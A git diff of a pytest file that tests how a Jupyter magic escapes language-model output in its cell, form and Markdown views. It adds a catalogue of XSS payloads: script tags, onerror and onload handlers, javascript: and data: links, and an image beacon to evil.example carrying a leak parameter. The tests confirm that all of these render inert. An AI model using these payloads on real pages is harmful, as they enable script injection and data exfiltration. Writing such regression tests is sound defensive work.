@@ -1,10 +1,16 @@
 """Escaping: model output that is HTML shows as text, in the cell and in the form.
 
-Here the saved outputs of a real kernel (nbclient) and the form's HTML are read; the
-browser test next to this one proves that no script runs when JupyterLab shows them.
+Here the saved outputs of a real kernel (nbclient), the form's HTML and the Markdown
+renderer's HTML are read; the browser test next to this one proves that no script runs and
+no request leaves when JupyterLab shows them. ``HOSTILE`` is the catalogue both use.
 """
 
 from __future__ import annotations
+
+import html as htmllib
+import time
+from dataclasses import dataclass
+from html.parser import HTMLParser
 
 import nbformat
 import pytest
@@ -14,6 +20,146 @@ from tests import conftest
 from tests.helpers import chat, model, publish, runs
 
 PAYLOAD = "<img src=x onerror=alert(1)>"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A reply an attacker would like a model to write, and what the Markdown view shows."""
+
+    id: str
+    reply: str
+    #: The text the Markdown view shows (entities decoded, inert Markdown kept as written).
+    markdown_text: str
+    #: A link the Markdown view may show instead of loading something (an image's URL).
+    markdown_link: str | None = None
+
+
+#: Model output that must never run script or fetch anything when shown (issue 12). The
+#: list with an indented fence goes last: CommonMark ends its fence at the end of the list
+#: item, where an escaper that tracks fences line by line thinks it still open.
+HOSTILE = [
+    Hostile("script", "<script>alert(2)</script>", "<script>alert(2)</script>"),
+    Hostile("svg-onload", "<svg onload=alert(3)>", "<svg onload=alert(3)>"),
+    Hostile(
+        "iframe-srcdoc",
+        '<iframe srcdoc="<script>alert(4)</script>"></iframe>',
+        '<iframe srcdoc="<script>alert(4)</script>"></iframe>',
+    ),
+    Hostile("js-link", "[click me](javascript:alert(5))", "[click me](javascript:alert(5))"),
+    Hostile(
+        "js-link-raw",
+        '<a href="javascript:alert(6)">raw link</a>',
+        '<a href="javascript:alert(6)">raw link</a>',
+    ),
+    Hostile("js-autolink", "<javascript:alert(7)>", "<javascript:alert(7)>"),
+    Hostile("js-reference", "[ref]\n\n[ref]: javascript:alert(8)", "[ref]: javascript:alert(8)"),
+    Hostile(
+        "data-link",
+        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)",
+        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)",
+    ),
+    Hostile(
+        "remote-image",
+        "![t](http://evil.example/leak?d=x)",
+        "image: t",
+        markdown_link="http://evil.example/leak?d=x",
+    ),
+    Hostile(
+        "data-image",
+        "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTApPg==)",
+        "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTApPg==)",
+    ),
+    Hostile(
+        "remote-image-raw",
+        "<img src=http://evil.example/raw.png>",
+        "<img src=http://evil.example/raw.png>",
+    ),
+    Hostile(
+        "css-beacon",
+        "<style>*{background:url(http://evil.example/css)}</style>",
+        "<style>*{background:url(http://evil.example/css)}</style>",
+    ),
+    Hostile(
+        "entities",
+        "&lt;script&gt;alert(11)&lt;/script&gt;",
+        "<script>alert(11)</script>",
+    ),
+    Hostile(
+        "numeric-entities",
+        "&#60;img src=x onerror=alert(12)&#x3e;",
+        "<img src=x onerror=alert(12)>",
+    ),
+    Hostile(
+        "list-fence",
+        "- a\n  ```\n<img src=y onerror=alert(document.cookie.length)>\n```\n",
+        "<img src=y onerror=alert(document.cookie.length)>",
+    ),
+]
+#: Every hostile reply in one, for the browser test: one notebook shows them all.
+ALL_HOSTILE = "\n\n".join(h.reply for h in HOSTILE)
+
+#: Tags the Markdown renderer may write (all from CommonMark's own constructs).
+ALLOWED_TAGS = {
+    *[
+        "a",
+        "blockquote",
+        "br",
+        "code",
+        "del",
+        "div",
+        "em",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "hr",
+        "li",
+        "ol",
+        "p",
+        "pre",
+        "span",
+        "strong",
+    ],
+    *["table", "tbody", "td", "th", "thead", "tr", "ul", "s"],
+}
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+def parse_html(markup: str) -> _Tags:
+    """The tags (with attributes) and the visible text of ``markup``, as a browser parses it."""
+    parser = _Tags()
+    parser.feed(markup)
+    parser.close()
+    return parser
+
+
+def assert_inert(markup: str) -> None:
+    """No tag outside the renderer's own, no handler, no loaded URL, no unsafe link."""
+    for tag, attrs in parse_html(markup).tags:
+        assert tag in ALLOWED_TAGS, (tag, markup)
+        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
+        assert not {"src", "srcdoc", "style", "formaction", "background"} & set(attrs) or (
+            tag in ("div", "pre") and set(attrs) <= {"class", "style"}  # pl_magic's own
+        ), (tag, attrs)
+        href = attrs.get("href")
+        if href is not None:
+            assert href.startswith(("http://", "https://", "mailto:")), (tag, attrs)
+
+
 ESCAPED = "&lt;img src=x onerror=alert(1)&gt;"
 KERNELSPEC = {"name": "python3", "display_name": "Python 3", "language": "python"}
 
@@ -58,31 +204,125 @@ def test_the_magic_escapes_model_output_in_every_view(xss, tmp_path):
         for html in shown:
             assert PAYLOAD not in html and "<img" not in html, (index, html)
         assert any(ESCAPED in html for html in shown), (index, shown)
-    # Markdown: Jupyter renders a live output's Markdown as trusted (unsanitized), so its
-    # raw HTML must not be live: "<" is "&lt;", which Markdown shows as "<"
-    (markdown,) = [o["data"]["text/markdown"] for o in nb.cells[5].outputs]
-    assert markdown.startswith(ESCAPED.replace("&gt;", ">")) and "<img" not in markdown
+    # Markdown: rendered in the kernel and sent as HTML (Jupyter would render a live
+    # output's Markdown as trusted, unsanitized): no text/markdown for it to re-parse
+    (shown,) = [o["data"] for o in nb.cells[5].outputs]
+    assert "text/markdown" not in shown and shown["text/plain"].startswith(PAYLOAD)
+    assert ESCAPED in shown["text/html"] and "<img" not in shown["text/html"]
+    assert_inert(shown["text/html"])
     # the plain-text views keep the text as it is
     plain = nb.cells[1].outputs[0]["data"]["text/plain"]
     assert plain.startswith(PAYLOAD)
     assert {r["output"] for r in runs()} == {PAYLOAD}
 
 
+@pytest.mark.parametrize("hostile", HOSTILE, ids=[h.id for h in HOSTILE])
+def test_markdown_renders_hostile_replies_as_inert_text(hostile):
+    from pl_magic.markdown_view import render_markdown
+
+    rendered = render_markdown(hostile.reply)
+    assert_inert(rendered)
+    parsed = parse_html(rendered)
+    text = " ".join("".join(parsed.text).split())
+    assert " ".join(hostile.markdown_text.split()) in text, rendered
+    links = [attrs["href"] for tag, attrs in parsed.tags if tag == "a"]
+    assert links == ([hostile.markdown_link] if hostile.markdown_link else []), rendered
+
+
+def test_markdown_still_renders_markdown():
+    from pl_magic.markdown_view import render_markdown
+
+    rendered = render_markdown(
+        "# T\n\n**b** *i* `<c>` [ok](https://example.org/a?b=1&c=2) <mailto:a@b.c>\n\n"
+        "```html\n<div>kept</div>\n```\n\n| x | y |\n|---|---|\n| 1 | ~~2~~ |\n"
+    )
+    assert_inert(rendered)
+    for part in (
+        "<h1>T</h1>",
+        "<strong>b</strong>",
+        "<em>i</em>",
+        "<code>&lt;c&gt;</code>",
+        'href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow"',
+        'href="mailto:a@b.c"',
+        '<code class="language-html">&lt;div&gt;kept&lt;/div&gt;\n</code>',
+        "<td><s>2</s></td>",
+    ):
+        assert part in rendered, (part, rendered)
+
+
 @pytest.mark.parametrize(
-    ("reply", "shown"),
+    "url",
     [
-        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
-        ("a <b>c</b> <!-- x --> <http://x.y>", "a &lt;b>c&lt;/b> &lt;!-- x --> &lt;http://x.y>"),
-        ("```html\n<div>kept</div>\n```\n<i>", "```html\n<div>kept</div>\n```\n&lt;i>"),
-        ("~~~~\n<p>\n~~~\n<q>\n~~~~~\n<r>", "~~~~\n<p>\n~~~\n<q>\n~~~~~\n&lt;r>"),
-        ("```\n<a>\r```\n<img>", "```\n<a>\n```\n&lt;img>"),  # \r ends a line there too
-        ("    ```\n<img>", "    ```\n&lt;img>"),  # indented: not a fence
+        "JaVaScRiPt:alert(1)",
+        " javascript:alert(1)",
+        "vbscript:x",
+        "file:///etc/passwd",
+        "//evil.example/x",
+        "relative/path",
+        "data:image/png;base64,AAAA",
+        "ftp://x.y/z",
     ],
 )
-def test_markdown_source_disarms_html_outside_fenced_code(reply, shown):
-    from pl_magic.display import markdown_source
+def test_only_http_https_and_mailto_links_are_live(url):
+    from pl_magic.markdown_view import render_markdown
 
-    assert markdown_source(reply) == shown
+    for markdown in (f"[x]({url})", f"![x]({url})", f"<{url}>", f"[x]\n\n[x]: {url}"):
+        rendered = render_markdown(markdown)
+        assert_inert(rendered)
+        assert "<a " not in rendered, (markdown, rendered)
+
+
+def test_the_markdown_view_sends_html_built_in_the_kernel():
+    from pl_magic.display import run_bundle
+
+    reply = HOSTILE[-1].reply
+    bundle = run_bundle(reply, "— xss v1 <b>", "markdown")
+    assert set(bundle) == {"text/plain", "text/html"}
+    assert bundle["text/plain"] == reply + "\n— xss v1 <b>"
+    assert_inert(bundle["text/html"])
+    assert "&lt;img src=y onerror=" in bundle["text/html"] and "&lt;b&gt;" in bundle["text/html"]
+    streaming = run_bundle(ALL_HOSTILE, "", "markdown", streaming=True)
+    assert_inert(streaming["text/html"])
+    assert streaming["text/html"].endswith('<span class="pl-magic-cursor">▌</span></div>')
+
+
+def test_every_view_of_the_catalogue_is_inert():
+    from pl_magic.display import GridCell, GridView, run_bundle
+
+    for fmt in ("text", "markdown"):
+        assert_inert(run_bundle(ALL_HOSTILE, ALL_HOSTILE, fmt, "error")["text/html"])
+    grid = GridView([GridCell(ALL_HOSTILE, ALL_HOSTILE, ALL_HOSTILE, "error", ALL_HOSTILE)])
+    markup = grid._html()
+    assert "<img" not in markup and "<script" not in markup and "<svg" not in markup
+    assert htmllib.escape(HOSTILE[0].reply) in markup
+
+
+def test_rendering_a_long_reply_while_streaming_stays_cheap():
+    """A 200 kB reply: the throttle spaces slow updates out (about 25% of the time; 50% here,
+    for a loaded machine), where rendering at every throttle tick would take all of it."""
+    from pl_magic.display import RunView
+
+    class Handle:
+        def __init__(self) -> None:
+            self.updates = 0
+
+        def update(self, bundle: dict, raw: bool) -> None:
+            self.updates += 1
+
+    reply = "".join(
+        f"- item **{i}** with `code` and [a link](https://x.y/{i})\n" for i in range(4000)
+    )
+    view = RunView(fmt="markdown", refresh_hz=20, live=True)
+    view.handle = Handle()
+    busy, began = 0.0, time.monotonic()
+    for end in range(0, len(reply), 400):  # ~500 chunks, one every 4 ms: a 2 s stream
+        t0 = time.monotonic()
+        view.update(reply[:end])
+        busy += time.monotonic() - t0
+        time.sleep(0.004)
+    elapsed = time.monotonic() - began
+    assert view.handle.updates >= 2
+    assert busy <= 0.5 * elapsed + 0.3, (busy, elapsed, view.handle.updates)
 
 
 def test_the_form_escapes_model_output(xss):
